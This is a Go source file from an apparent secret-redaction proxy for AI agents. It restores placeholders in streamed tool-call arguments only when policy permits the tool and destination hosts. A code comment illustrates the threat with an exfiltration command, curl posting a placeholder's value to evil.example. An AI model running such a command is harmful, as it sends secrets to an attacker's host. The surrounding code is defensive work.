// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The hush Authors

package stream

import (
	"bytes"

	"github.com/hushproxy/hush/redact"
)

// callFeed restores placeholders in a fragment of a call's arguments (as
// escaped as it travels) and returns what can be sent now. It holds back a
// tail that could still become a placeholder and, once a placeholder whose
// value is bound to hosts appears, everything from there to the end of the
// call: the hosts it may go to can be named after it
// (`curl -d t=PH https://evil.example`).
func (x *rewriter) callFeed(st *callState, raw []byte) []byte {
	st.fired = true
	if !x.o.Rehydrate {
		return raw
	}
	st.hosts.write(raw)
	buf := append(st.held, raw...)
	if st.deferring {
		if len(buf) <= maxDefer {
			st.held = buf
			return nil
		}
		// Too long to hold: decide now, denying values bound to hosts.
		st.huge, st.deferring = true, false
	}
	for i := 0; ; {
		at, n := nextPlaceholder(buf, i)
		if n == 0 {
			break
		}
		if x.mustWait(st, string(buf[at:at+n])) {
			out := x.restore(st, buf[:at], st.esc, true)
			st.held = bytes.Clone(buf[at:])
			st.deferring = true
			return out
		}
		i = at + n
	}
	cut := len(buf) - phTail(buf)
	out := x.restore(st, buf[:cut], st.esc, true)
	st.held = append([]byte(nil), buf[cut:]...)
	return out
}

// callClose ends a streamed call and returns the rest of its arguments.
func (x *rewriter) callClose(st *callState) []byte {
	if !x.o.Rehydrate {
		return nil
	}
	st.hosts.close()
	st.hostsDone = true
	out := x.restore(st, st.held, st.esc, true)
	st.held, st.deferring = nil, false
	return out
}

// callCopy restores placeholders in a whole copy of a call's arguments: a
// string's content (a .done copy, a non-streamed message) or a JSON object
// (Gemini args, Anthropic input, a local_shell_call action). Decisions
// already made for the call's deltas are reused, so every copy comes out
// the same, and callbacks run only for the first copy. esc nil: the
// call's own escaping.
func (x *rewriter) callCopy(c *event, st *callState, v val, esc func([]byte) []byte) {
	if !v.ok() {
		return
	}
	raw, s, e := v.raw(), v.s, v.e
	if v.isStr() {
		raw, s, e = v.inner(), v.s+1, v.e-1
	}
	if !x.o.Rehydrate {
		// Tool arguments are not scanned in either mode: the values
		// the agent executes with belong there.
		x.claim(c, v)
		return
	}
	if !st.hostsDone {
		st.hosts.write(raw)
		st.hosts.close()
		st.hostsDone = true
	}
	if esc == nil {
		esc = st.esc
	}
	out := x.restore(st, raw, esc, !st.fired)
	st.fired = true
	c.edits = append(c.edits, edit{s, e, out})
}

// mustWait reports whether the placeholder's fate depends on hosts the
// rest of the call may still name.
func (x *rewriter) mustWait(st *callState, ph string) bool {
	if _, ok := st.dec[ph]; ok || st.huge {
		return false
	}
	_, iss, ok := x.r.Lookup(ph)
	if !ok {
		return false
	}
	u := x.pol.lookup(x.r, iss)
	// A host already named that the rule does not allow denies it for
	// good: more arguments only add hosts.
	return u.toolOK(st.call.Tool) && u.hostBound() && u.hostsOK(&st.hosts)
}

// restore returns b with the placeholders the policy allows replaced by
// their escaped values; fire runs the callbacks for each placeholder. It
// returns b itself when nothing changed.
func (x *rewriter) restore(st *callState, b []byte, esc func([]byte) []byte, fire bool) []byte {
	var out []byte
	last := 0
	for i := 0; ; {
		at, n := nextPlaceholder(b, i)
		if n == 0 {
			break
		}
		sec, d := x.decide(st, string(b[at:at+n]))
		if fire {
			x.fire(st, d)
		}
		if d.ok {
			if out == nil {
				out = make([]byte, 0, len(b)+len(sec))
			}
			out = append(out, b[last:at]...)
			out = append(out, esc(sec)...)
			last = at + n
		}
		i = at + n
	}
	if out == nil {
		return b
	}
	return append(out, b[last:]...)
}

// decide returns the value of a placeholder and whether it may be restored
// in this call.
func (x *rewriter) decide(st *callState, ph string) (redact.Secret, decision) {
	sec, iss, ok := x.r.Lookup(ph)
	if !ok {
		kind := ph[len(phPrefix) : len(ph)-phTailLen-1]
		return nil, decision{reason: x.notIssued(ph), iss: redact.Issue{Placeholder: ph, Kind: kind}}
	}
	if d, ok := st.dec[ph]; ok {
		return sec, d
	}
	u := x.pol.lookup(x.r, iss)
	d := decision{ok: true, iss: iss}
	switch {
	case !u.toolOK(st.call.Tool):
		d.ok, d.reason = false, ReasonTool
	case !u.hostBound():
	case st.huge || !u.hostsOK(&st.hosts):
		d.ok, d.reason = false, ReasonDestination
	case !st.hostsDone:
		// Not reached: callFeed holds such a placeholder back until the
		// call ends. Deny without remembering, to fail safe.
		return sec, decision{reason: ReasonDestination, iss: iss}
	}
	if st.dec == nil {
		st.dec = map[string]decision{}
	}
	if len(st.dec) < maxDecided {
		st.dec[ph] = d
	}
	return sec, d
}

// verifier is implemented by a Redactor that can tell a forged placeholder
// (bad check) from an issued one that the vault no longer holds.
type verifier interface{ Verify(placeholder string) bool }

func (x *rewriter) notIssued(ph string) string {
	if v, ok := any(x.r).(verifier); ok && v.Verify(ph) {
		return ReasonUnknown
	}
	return ReasonForged
}

func (x *rewriter) fire(st *callState, d decision) {
	switch {
	case d.ok && x.o.OnRestore != nil:
		x.o.OnRestore(d.iss, st.call)
	case !d.ok && x.o.OnDeny != nil:
		x.o.OnDeny(d.iss, st.call, d.reason)
	}
}

// nextPlaceholder returns the position and length of the first complete
// placeholder in b at or after i; n is 0 if there is none.
func nextPlaceholder(b []byte, i int) (at, n int) {
	for i < len(b) {
		j := bytes.Index(b[i:], []byte(phPrefix))
		if j < 0 {
			return 0, 0
		}
		at = i + j
		if n = phLen(b[at:]); n > 0 {
			return at, n
		}
		i = at + 1
	}
	return 0, 0
}
